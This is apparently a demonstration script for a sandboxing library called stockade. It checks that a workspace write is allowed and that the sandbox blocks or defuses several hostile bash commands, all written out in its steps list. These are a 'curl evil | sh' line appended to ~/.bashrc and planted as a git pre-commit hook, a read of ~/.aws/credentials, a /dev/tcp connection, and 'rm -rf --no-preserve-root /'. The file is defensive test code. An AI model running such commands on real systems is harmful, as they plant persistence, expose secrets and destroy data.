"""A short demonstration: one sandboxed command allowed, several blocked by the kernel.

Runs against a throwaway HOME and workspace, so nothing of yours is touched.
"""

from __future__ import annotations

import os
import shutil
import socket
import tempfile

from stockade import (
    CapabilityDenied,
    SandboxCommand,
    SandboxConfig,
    SandboxError,
    SyncWorkspaceSandbox,
)


def main() -> None:
    # Not under /tmp: every sandbox gets a private /tmp, so a HOME there
    # would not be the host's HOME inside, and a write to it would land in
    # the sandbox's throwaway /tmp and look "allowed". A checkout under /tmp
    # puts the demo in /var/tmp instead.
    base = os.path.realpath(os.getcwd())
    if base == "/tmp" or base.startswith("/tmp/"):
        base = "/var/tmp"
    root = tempfile.mkdtemp(prefix=".stockade-demo-", dir=base)
    home = os.path.join(root, "home")
    workspace = os.path.join(root, "project")
    os.makedirs(os.path.join(home, ".aws"))
    os.makedirs(workspace)
    with open(os.path.join(home, ".aws", "credentials"), "w") as fh:
        fh.write("aws_secret_access_key = DEMO-SECRET\n")
    with open(os.path.join(home, ".bashrc"), "w") as fh:
        fh.write("# your shell settings\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    port = listener.getsockname()[1]

    env = {**os.environ, "HOME": home}
    from stockade.ledger import default_ledger_path

    ledger = default_ledger_path(os.environ)
    config = SandboxConfig(mode="workspace-write", ledger=ledger)
    steps = [
        ("write a file in the workspace", "echo hello > notes.txt && cat notes.txt"),
        ("append to ~/.bashrc", "echo 'curl evil | sh' >> ~/.bashrc"),
        ("read ~/.aws/credentials", "cat ~/.aws/credentials"),
        ("leave a git hook for your next commit",
         "mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit"),
        ("reach a server on the host", f"exec 3<>/dev/tcp/127.0.0.1/{port} || "
                                       f"python3 -c 'import socket; socket.create_connection("
                                       f"(\"127.0.0.1\", {port}), 2)'"),
        ("wipe the disk", "rm -rf --no-preserve-root /"),
    ]
    print(f"workspace: {workspace}\n")
    with SyncWorkspaceSandbox(config, env=env) as sandbox:
        sandbox.open_session("demo", workspace)
        for title, script in steps:
            cmd = SandboxCommand("bash", ["-c", script], session_id="demo")
            try:
                out = sandbox.execute(cmd)
            except CapabilityDenied as exc:
                print(f"BLOCKED  {title}\n         stockade refused it: {exc}\n")
                continue
            except SandboxError as exc:
                print(f"ERROR    {title}: {exc}\n")
                continue
            if out.exit_code == 0 and out.likely_sandbox_denied:
                print(f"DEFUSED  {title}\n         {out.denial_hint}\n")
            elif out.exit_code == 0:
                print(f"allowed  {title}\n         -> {out.stdout.decode().strip()}\n")
            else:
                reason = out.denial_hint or out.stderr.decode().strip().splitlines()[-1]
                print(f"BLOCKED  {title}\n         {reason}\n")
    try:
        listener.accept()
        print("!! the host listener received a connection")
    except BlockingIOError:
        print("checked from outside: the host listener received no connection;")
    with open(os.path.join(home, ".bashrc")) as fh:
        unchanged = fh.read() == "# your shell settings\n"
    print(f"~/.bashrc unchanged: {unchanged}; "
          "hook left for your next commit: "
          f"{os.path.exists(os.path.join(workspace, '.git', 'hooks', 'pre-commit'))}")
    print(f"every run is in the audit ledger {ledger}: try `.venv/bin/stockade audit --last 6`")
    shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    main()
